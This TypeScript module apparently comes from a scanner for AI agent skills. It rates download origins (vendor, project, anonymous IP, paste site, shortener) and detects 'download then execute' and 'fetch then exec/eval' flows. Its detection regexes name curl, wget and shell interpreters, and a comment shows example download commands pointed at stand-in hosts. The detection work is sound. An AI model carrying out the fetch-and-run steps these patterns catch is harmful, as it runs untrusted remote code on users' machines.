// Helpers for SC2: who is being downloaded from, and "download to a file, then run that file" flows.
import { activeLimits, noteActiveLimit } from '../../analysis/kernel.js';
import type { LineList } from '../../analysis/lines.js';
import { isIP } from 'node:net';
import {
  ANONYMOUS_HOSTS, PASTE_HOSTS, SHORTENER_HOSTS, TRUSTED_GITHUB_RAW_PREFIXES, TRUSTED_INSTALLER_HOSTS, USER_CONTENT_PATHS, VENDOR_DOMAINS,
} from './data/trusted-hosts.js';

const TRUSTED = new Set(TRUSTED_INSTALLER_HOSTS);
const URL_RE = /\bhttps?:\/\/[^\s"'`<>|)\\]{1,2000}/gi;

/** Host of a URL, lower-cased, without userinfo or port; null when unparsable. */
export function hostOf(url: string): { host: string; path: string } | null {
  try {
    const u = new URL(url);
    return { host: u.hostname.toLowerCase().replace(/\.$/, ''), path: u.pathname.toLowerCase() };
  } catch {
    return null;
  }
}

/** The host is `domain` or one of its subdomains. */
function under(host: string, domains: readonly string[]): boolean {
  return domains.some((d) => host === d || host.endsWith(`.${d}`));
}

/**
 * Who serves a download, worst last:
 * - `vendor`: a vendor's official installer endpoint or a domain it controls entirely;
 * - `project`: a versioned release asset of a code-hosting project (`github.com/o/r/releases/download/…`),
 *   or a domain the skill itself names as its own (frontmatter homepage/repository, or its name);
 * - `unknown`: anyone else;
 * - `anonymous`: a raw public IP address, a paste/snippet site, a URL shortener, a tunnel or dynamic-DNS
 *   name, an anonymous file drop. Nothing legitimate is installed from there.
 */
export type Origin = 'vendor' | 'project' | 'unknown' | 'anonymous';
const RANK: Record<Origin, number> = { vendor: 0, project: 1, unknown: 2, anonymous: 3 };

export type AnonymousKind = 'ip-address' | 'paste-site' | 'url-shortener' | 'anonymous-host';

/** Hosts a skill declares as its own: frontmatter homepage/repository hosts and the words of its name. */
export interface ProjectIdentity {
  hosts: readonly string[];
  names: readonly string[];
}

export const NO_PROJECT: ProjectIdentity = { hosts: [], names: [] };

// Words too generic to identify a project by ("skill", "cli"), and hosts too shared to be anyone's own.
const GENERIC_NAMES = new Set(['skill', 'skills', 'tool', 'tools', 'cli', 'agent', 'agents', 'helper', 'mcp', 'server', 'api', 'app', 'dev', 'get', 'install', 'setup', 'the', 'and', 'for', 'with', 'code', 'docs', 'kit', 'sdk', 'lib', 'plugin', 'www']);
const SHARED_HOSTS = ['github.com', 'gitlab.com', 'bitbucket.org', 'codeberg.org', 'githubusercontent.com', 'github.io', 'gitlab.io', 'npmjs.com', 'pypi.org', 'huggingface.co'];

export function projectIdentity(name: string | undefined, urls: readonly string[]): ProjectIdentity {
  // The registrable domain of each declared host (docs.acme.dev → acme.dev): the project owns all of it.
  const hosts = urls
    .map((u) => hostOf(u)?.host)
    .filter((h): h is string => !!h && !under(h, SHARED_HOSTS) && isIP(h) === 0 && anonymousKind(h) === null)
    .map(registrableDomain);
  const names = (name ?? '').toLowerCase().split(/[^a-z0-9]+/).filter((w) => w.length >= 3 && !GENERIC_NAMES.has(w));
  return { hosts, names };
}

const PRIVATE_V4 = /^(?:10\.|127\.|0\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/;

/** What kind of anonymous host this is, or null. */
export function anonymousKind(host: string): AnonymousKind | null {
  const bare = host.replace(/^\[|\]$/g, '');
  const ip = isIP(bare);
  if (ip === 4) return PRIVATE_V4.test(bare) ? null : 'ip-address';
  if (ip === 6) return bare === '::1' || /^f[cd]|^fe80/i.test(bare) ? null : 'ip-address';
  if (under(host, PASTE_HOSTS)) return 'paste-site';
  if (under(host, SHORTENER_HOSTS)) return 'url-shortener';
  if (under(host, ANONYMOUS_HOSTS)) return 'anonymous-host';
  return null;
}

/** A release asset of one repository on a code host: the project's own versioned release channel. */
const RELEASE_PATH = /^\/[\w.-]{1,100}\/[\w.-]{1,100}\/(?:-\/)?releases\/(?:latest\/)?download\//;

/** example.co.uk → 3 labels; tool.dev → 2. */
function registrableLength(labels: readonly string[]): number {
  return labels.length >= 3 && /^(?:co|com|org|net|ac|gov|edu)$/.test(labels[labels.length - 2] ?? '') && (labels[labels.length - 1] ?? '').length === 2 ? 3 : 2;
}

function registrableDomain(host: string): string {
  const labels = host.split('.');
  return labels.slice(-registrableLength(labels)).join('.');
}

/** The name part of the registrable domain: get.tool.dev → "tool". */
function registrableLabel(host: string): string {
  const labels = host.split('.');
  return labels[labels.length - registrableLength(labels)] ?? '';
}

export function originOf(url: string, project: ProjectIdentity = NO_PROJECT): { origin: Origin; host: string; anonymous?: AnonymousKind } {
  const h = hostOf(url);
  if (!h) return { origin: 'unknown', host: '' };
  const { host, path } = h;
  const anon = anonymousKind(host);
  if (anon) return { origin: 'anonymous', host, anonymous: anon };
  const userContent = (USER_CONTENT_PATHS[host.replace(/^www\./, '')] ?? []).some((p) => path.startsWith(p));
  if (!userContent && (TRUSTED.has(host) || TRUSTED.has(host.replace(/^www\./, '')) || under(host, VENDOR_DOMAINS))) return { origin: 'vendor', host };
  if (host === 'raw.githubusercontent.com' && TRUSTED_GITHUB_RAW_PREFIXES.some((p) => path.startsWith(`/${p}`))) return { origin: 'vendor', host };
  if ((host === 'github.com' || host === 'gitlab.com' || host === 'codeberg.org') && RELEASE_PATH.test(path)) return { origin: 'project', host };
  if (under(host, project.hosts) || (project.names.length > 0 && project.names.includes(registrableLabel(host)))) return { origin: 'project', host };
  return { origin: 'unknown', host };
}

export function urlsIn(text: string): string[] {
  return text.match(URL_RE) ?? [];
}

// A download target written without a scheme: `curl -s 203.0.113.7/x`, `wget evil.example/p.sh`.
const BARE_TARGET = /^(?:\[[0-9a-f:]{2,45}\]|[a-z0-9](?:[a-z0-9-]{0,62}\.){1,8}[a-z0-9-]{1,62})(?::\d{1,5})?(?:\/|$)/i;

/** The worst origin among the segment's download targets (URLs, or with `bare` the host/path arguments of a command). */
export function segmentOrigin(segment: string, project: ProjectIdentity = NO_PROJECT, bare = true): { origin: Origin; host: string; anonymous?: AnonymousKind } {
  const targets = urlsIn(segment);
  if (targets.length === 0 && bare) {
    for (const t of segment.split(/\s+/, 24).slice(1)) {
      const w = t.slice(0, 300).replace(/^["']|["']$/g, '');
      if (!w.startsWith('-') && BARE_TARGET.test(w) && /[./]/.test(w)) targets.push(`http://${w}`);
    }
  }
  let worst: { origin: Origin; host: string; anonymous?: AnonymousKind } = { origin: 'unknown', host: '' };
  let first = true;
  for (const t of targets.slice(0, 16)) {
    const o = originOf(t, project);
    if (first || RANK[o.origin] > RANK[worst.origin]) worst = o;
    first = false;
  }
  return worst;
}

/** The download names something to fetch (a URL, host/path or variable), not just `curl | sh` as a phrase. */
export function hasDownloadTarget(segment: string): boolean {
  return segment
    .split(/\s+/)
    .slice(1)
    .some((t) => t.length > 1 && !t.startsWith('-') && /[./$:{]/.test(t) && !/^[|&;]/.test(t));
}

const DOWNLOAD_RE = /\b(?:curl|wget)\b[^\n]{0,400}/gi;
// `-o file`, `-fsSLo file`, `--output file`, wget `-O file`/`--output-document=file`, or a `> file` redirect.
const OUTPUT_RE = /\s(?:-[A-Za-z]{0,8}o|--output|--output-document)(?:\s{1,4}|=)["']?([^\s"';&|<>]{1,200})|>\s{0,2}["']?([^\s"';&|<>]{1,200})/;
const WGET_OUTPUT_RE = /\s(?:-[A-Za-z]{0,8}O|--output-document)(?:\s{1,4}|=)["']?([^\s"';&|<>]{1,200})/;
// Checksum or signature verification between download and run turns "blind" into "checked".
const VERIFY_RE = /\b(?:sha(?:1|256|384|512)sum|shasum|gpg\s{1,4}--verify|gpgv|cosign\s{1,4}verify|minisign\s{1,4}-V|slsa-verifier|openssl\s{1,4}dgst)\b/i;
const FOLLOW_LINES = 10;
const MAX_LINE = 2_000;

function escapeRe(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** Where a download is saved: the output target, or the URL's last path segment (curl -O, plain wget). */
function savedAs(segment: string): string | null {
  const wget = /^wget\b/i.test(segment);
  if (/\s-[A-Za-z]{0,8}O-(?:\s|$)/.test(segment)) return null; // wget -qO- streams to stdout
  const m = (wget ? WGET_OUTPUT_RE : OUTPUT_RE).exec(segment) ?? (wget ? /(?:^|\s)>\s{0,2}["']?([^\s"';&|<>]{1,200})/.exec(segment) : null);
  let target = m?.[1] ?? m?.[2] ?? null;
  if (target === '-' || target === '/dev/null') return null;
  if (!target && (wget || /\s(?:-[A-Za-z]{0,8}O\b|--remote-name\b)/.test(segment))) {
    const url = urlsIn(segment)[0];
    target = url ? (hostOf(url)?.path.split('/').pop() ?? null) : null;
  }
  if (!target) return null;
  const base = target.split('/').pop() ?? '';
  return base.length >= 2 && !/^[$%{]/.test(base) ? base : null;
}

export interface DownloadRun {
  /** 1-based line of the download. */
  line: number;
  segment: string;
  runLine: number;
  /** A checksum or signature check sits between the download and the run. */
  verified: boolean;
}

/** Downloads whose saved file is executed (directly after chmod, or by an interpreter) within a few lines. */
export function downloadThenRun(lines: LineList): DownloadRun[] {
  const out: DownloadRun[] = [];
  let seen = 0;
  const max = activeLimits().maxDownloadsPerFile;
  for (let i = 0; i < lines.length; i += 1) {
    const text = lines.at(i) ?? '';
    DOWNLOAD_RE.lastIndex = 0;
    const m = DOWNLOAD_RE.exec(text);
    if (!m) continue;
    if (seen >= max) {
      noteActiveLimit({ what: 'downloads', observed: seen + 1, limit: max });
      break;
    }
    seen += 1;
    const name = savedAs(m[0]);
    if (!name) continue;
    const n = escapeRe(name);
    const run = new RegExp(
      `(?:^|&&|\\|\\||;|\\bthen\\b|\\bdo\\b)\\s{0,4}(?:sudo\\s{1,4}(?:-\\S{1,6}\\s{1,4})?)?(?:(?:(?:ba|z|da|k)?sh|python[0-9.]{0,4}|node|perl|ruby|source|\\.|pwsh|powershell(?:\\.exe)?)\\s{1,4}(?:-\\S{1,6}\\s{1,4})?)?["']?(?:\\.{0,2}/|~/|/|\\$\\w{1,40}/)?(?:[^\\s"';&|]{0,200}/)?${n}(?=$|[\\s"';&|])`,
    );
    const after = text.slice(m.index + m[0].indexOf(name) + name.length);
    const rest = after.slice(0, MAX_LINE);
    if (run.test(rest.replace(/^[^&;|]{0,400}/, ''))) {
      out.push({ line: i + 1, segment: m[0], runLine: i + 1, verified: VERIFY_RE.test(rest) });
      continue;
    }
    let verified = VERIFY_RE.test(rest);
    for (let j = i + 1; j < lines.length && j <= i + FOLLOW_LINES; j += 1) {
      const next = (lines.at(j) ?? '').trim().slice(0, MAX_LINE);
      if (run.test(next)) {
        out.push({ line: i + 1, segment: m[0], runLine: j + 1, verified });
        break;
      }
      verified ||= VERIFY_RE.test(next);
    }
  }
  return out;
}

const FETCH_ASSIGN =
  /^\s{0,40}(?:(?:const|let|var)\s{1,4})?([A-Za-z_$][\w$]{0,40})\s{0,4}=\s{0,4}(?:await\s{1,4})?(?:(?:requests|httpx|session|client|urllib3|urllib\.request|urllib2|axios|got)\s{0,2}\.\s{0,2}(?:get|post|request|urlopen)|urlopen|fetch)\s{0,4}\(/;

/** `r = requests.get(u)` … `exec(r.text)`: fetched content evaluated a few lines later, through one variable. */
export function fetchedThenEvaluated(lines: LineList): { line: number; evalLine: number; matched: string }[] {
  const out: { line: number; evalLine: number; matched: string }[] = [];
  let seen = 0;
  const max = activeLimits().maxFetchAssignmentsPerFile;
  for (let i = 0; i < lines.length; i += 1) {
    const text = (lines.at(i) ?? '').slice(0, MAX_LINE);
    const m = FETCH_ASSIGN.exec(text);
    if (!m) continue;
    if (seen >= max) {
      noteActiveLimit({ what: 'fetched assignments', observed: seen + 1, limit: max });
      break;
    }
    seen += 1;
    const evalOf = new RegExp(String.raw`\b(?:exec|eval|new\s{1,4}Function)\s{0,4}\(\s{0,4}(?:await\s{1,4})?\(?\s{0,4}(?:await\s{1,4})?${escapeRe(m[1] ?? '')}\b`);
    for (let j = i; j < lines.length && j <= i + FOLLOW_LINES; j += 1) {
      const candidate = j === i ? text.slice(m[0].length) : (lines.at(j) ?? '').slice(0, MAX_LINE);
      if (evalOf.test(candidate)) {
        out.push({ line: i + 1, evalLine: j + 1, matched: text.trim().slice(0, 200) });
        break;
      }
    }
  }
  return out;
}
